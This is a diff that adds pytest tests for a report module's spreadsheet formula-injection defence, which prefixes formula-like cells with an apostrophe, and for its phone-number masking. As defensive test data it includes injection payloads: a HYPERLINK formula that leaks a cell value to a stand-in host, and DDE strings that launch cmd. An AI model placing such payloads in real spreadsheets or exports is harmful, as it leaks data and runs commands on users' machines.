@@ -171,3 +171,32 @@ def test_excluded_note_names_total_rows_and_masks_quoted_cells():
                         excluded_problems=["t.csv row 3, column opened_at: found '13912345678'"])
     text = report.excluded_note(survey, broken, lang="en")._repr_html_()
     assert "139****5678" in text and "13912345678" not in text and "total or subtotal" in text
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?leak="&A1,"点此")', "+cmd|' /C calc'!A0",
+                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
+                                  "\r=1+1", " =1+1"])
+def test_text_that_starts_like_a_formula_is_neutralised(text):
+    assert report.neutralise_formula(text) == "'" + text
+
+
+@pytest.mark.parametrize("value", ["潮安", "-5", "+3.1%", "-0.25", "1,250", 12, -3.5, None, "a=b"])
+def test_numbers_and_plain_text_stay_as_they_are(value):
+    assert report.neutralise_formula(value) == value
+
+
+def test_safe_table_writes_text_as_text_and_numbers_as_numbers(tmp_path):
+    import openpyxl
+
+    df = pd.DataFrame({"unit": ["=HYPERLINK(\"http://x\")", "@SUM(A1)", "潮安 13812341234"],
+                       "total": [12.5, -3, 7], "rank": [1, 3, 2]})
+    safe = report.safe_table(df.rename(columns={"total": "=total"}))
+    assert safe["unit"].tolist() == ["'=HYPERLINK(\"http://x\")", "'@SUM(A1)", "潮安 138****1234"]
+    assert list(safe.columns) == ["unit", "'=total", "rank"]
+    assert df["unit"].iloc[0].startswith("=")  # the input is untouched
+    safe.to_excel(tmp_path / "t.xlsx", index=False)
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    cells = [c for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert [c.value for c in ws["B"][1:]] == [12.5, -3, 7]   # numeric cells, not text
+    assert all(c.data_type == "n" for c in ws["B"][1:])
